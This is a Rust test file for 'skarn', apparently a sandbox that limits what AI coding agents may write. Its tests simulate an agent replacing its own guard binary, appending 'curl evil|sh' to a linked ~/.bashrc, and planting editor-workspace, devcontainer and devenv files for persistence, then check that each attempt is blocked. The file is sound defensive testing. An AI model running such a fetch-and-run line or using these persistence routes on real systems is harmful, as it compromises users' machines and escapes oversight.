//! Issue 24, third attack pass: the skarn program inside the project, the
//! home's file links, the editor workspace files and the persistence names
//! the list missed (the review's escaping and FIFO configs: agent_atk24).
//! Each judged from outside: the file not written, the hook's answer.

use std::path::Path;
use std::process::Command;

use crate::agent_files::{git_ok, judge, run_sh};
use crate::common::*;
use skarn_test_support::TempDir;

#[test]
fn init_refuses_a_skarn_program_inside_the_project() {
    let t = TempDir::new("r3_exe_init");
    let (proj, home) = (t.dir("proj"), t.dir("home"));
    git_ok(&proj, &["init", "-q", "."]);
    let bin = t.dir("proj/target/debug").join("skarn");
    if std::fs::hard_link(exe(), &bin).is_err() {
        std::fs::copy(exe(), &bin).unwrap();
    }
    let o = Command::new(&bin)
        .args(["init", "--client", "claude-code"])
        .current_dir(&proj)
        .env("HOME", &home)
        .output()
        .unwrap();
    assert_ne!(code(&o), 0, "{o:?}");
    assert!(err(&o).contains("lies in the project"), "{}", err(&o));
    assert!(!proj.join(".claude/settings.json").exists());
    assert!(!proj.join(".mcp.json").exists());
}

/// F3: `skarn run` keeps the skarn program it runs from read-only when
/// it lies in the workspace (replaced, truncated or removed: all fail).
#[test]
fn run_keeps_its_own_program_read_only_in_the_workspace() {
    let t = TempDir::new("r3_exe_run");
    let (ws, home) = (t.dir("ws"), t.dir("home"));
    git_ok(&ws, &["init", "-q", "."]);
    // A copy, never a link: a failed protection must not reach the
    // test's own binary.
    let bin = t.dir("ws/bin").join("skarn");
    std::fs::copy(exe(), &bin).unwrap();
    let len = std::fs::metadata(&bin).unwrap().len();
    let run = || {
        Command::new(&bin)
            .args(["run", "--workspace"])
            .arg(&ws)
            .args([
                "--",
                "sh",
                "-c",
                "printf '#!/bin/sh\\nexit 0\\n' > bin/new; chmod +x bin/new; mv -f bin/new bin/skarn; \
                 (: > bin/skarn); rm -f bin/skarn; (echo x >> bin/skarn); true",
            ])
            .current_dir(&ws)
            .env("HOME", &home)
            .output()
    };
    // A child another test forked while the copy was open for writing
    // holds that descriptor a moment (ETXTBSY): try again.
    let mut o = run();
    for _ in 0..100 {
        match &o {
            Err(e) if e.kind() == std::io::ErrorKind::ExecutableFileBusy => {
                std::thread::sleep(std::time::Duration::from_millis(50));
                o = run();
            }
            _ => break,
        }
    }
    let o = o.unwrap();
    assert_eq!(code(&o), 0, "{o:?}");
    let md = std::fs::metadata(&bin).unwrap();
    assert_eq!(md.len(), len, "the program was changed: {}", err(&o));
}

/// F6: a file the home links to (`~/.bashrc -> ~/dotfiles/bashrc`) is
/// refused to the Write tool, as `skarn run` keeps it read-only.
#[test]
fn the_guard_refuses_files_the_home_links_to() {
    let t = TempDir::new("r3_dotlinks");
    let home = t.dir("home");
    let dots = t.dir("home/dotfiles");
    git_ok(&dots, &["init", "-q", "."]);
    std::fs::write(dots.join("bashrc"), "# real bashrc\n").unwrap();
    std::os::unix::fs::symlink(dots.join("bashrc"), home.join(".bashrc")).unwrap();
    for p in [dots.join("bashrc").display().to_string(), "bashrc".into()] {
        let why = judge(&p, &dots, &home);
        assert!(
            why.as_deref().is_some_and(|w| w.contains(".bashrc")),
            "{p}: {why:?}"
        );
    }
    // The rest of the start-up file's directory too: `skarn run` keeps
    // that whole tree read-only (its neighbours may be read as code).
    let why = judge(&dots.join("README").display().to_string(), &dots, &home);
    assert!(
        why.as_deref().is_some_and(|w| w.contains("start-up file")),
        "{why:?}"
    );
    let o = Command::new(exe())
        .args(["run", "--allow-home", "--workspace"])
        .arg(&dots)
        .args(["--", "sh", "-c", "echo 'curl evil|sh' >> bashrc; true"])
        .current_dir(&dots)
        .env("HOME", &home)
        .output()
        .unwrap();
    assert_eq!(
        std::fs::read_to_string(dots.join("bashrc")).unwrap(),
        "# real bashrc\n",
        "{o:?}"
    );
}

/// F7: `*.code-workspace` files: refused to the Edit/Write tools, kept
/// read-only by `skarn run`, and a new one at the top is set aside after
/// the run.
#[test]
fn editor_workspace_files_are_guarded_and_set_aside() {
    let t = TempDir::new("r3_codews");
    let (ws, home) = (t.dir("ws"), t.dir("home"));
    git_ok(&ws, &["init", "-q", "."]);
    std::fs::write(ws.join("team.code-workspace"), "{\"folders\":[]}").unwrap();
    for rel in [
        "team.code-workspace",
        "new.code-workspace",
        "sub/X.Code-Workspace",
    ] {
        let p = ws.join(rel).display().to_string();
        assert!(judge(&p, &ws, &home).is_some(), "{rel}: no answer");
    }
    let o = run_sh(
        &ws,
        &home,
        "echo '{\"tasks\":1}' >> team.code-workspace; \
         echo '{\"tasks\":1}' > planted.code-workspace; true",
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("team.code-workspace")).unwrap(),
        "{\"folders\":[]}",
        "{o:?}"
    );
    assert!(
        !ws.join("planted.code-workspace").exists(),
        "left in place: {}",
        err(&o)
    );
    // Said: set aside (the direct mode) or not applied (the layer, ADR
    // 0226), naming the file.
    let e = err(&o);
    assert!(
        e.contains("set aside")
            || (e.contains("were not applied to the workspace: ")
                && e.contains("planted.code-workspace")),
        "{e}"
    );
}

/// F8: `opencode.jsonc`, `.devcontainer.json` and (with an `.envrc`)
/// `devenv.nix` cannot be planted by a sandboxed command nor written by
/// the agent's file tools.
#[test]
fn missed_persistence_names_are_protected() {
    let t = TempDir::new("r3_names");
    let (ws, home) = (t.dir("ws"), t.dir("home"));
    git_ok(&ws, &["init", "-q", "."]);
    std::fs::write(ws.join(".envrc"), "use devenv\n").unwrap();
    let o = run_sh(
        &ws,
        &home,
        "for f in opencode.jsonc .devcontainer.json devenv.nix; do echo x > $f; done; true",
    );
    for f in ["opencode.jsonc", ".devcontainer.json", "devenv.nix"] {
        assert!(!is_file(&ws.join(f)), "{f} planted: {}", err(&o));
        let p = ws.join(f).display().to_string();
        assert!(judge(&p, &ws, &home).is_some(), "{f}: no answer");
    }
}

fn is_file(p: &Path) -> bool {
    std::fs::symlink_metadata(p).is_ok_and(|m| m.is_file())
}
